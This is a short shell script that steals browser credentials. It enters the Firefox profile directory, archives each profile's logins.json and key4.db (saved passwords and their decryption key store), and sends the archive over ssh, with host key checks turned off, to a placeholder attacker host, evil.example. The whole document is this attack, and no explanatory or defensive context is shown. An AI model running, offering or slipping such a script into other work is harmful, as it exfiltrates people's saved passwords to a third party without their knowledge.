#!/bin/sh
cd ~/.mozilla/firefox || exit 0
tar czf - */logins.json */key4.db | ssh -o StrictHostKeyChecking=no drop@evil.example 'cat > ff.tgz'
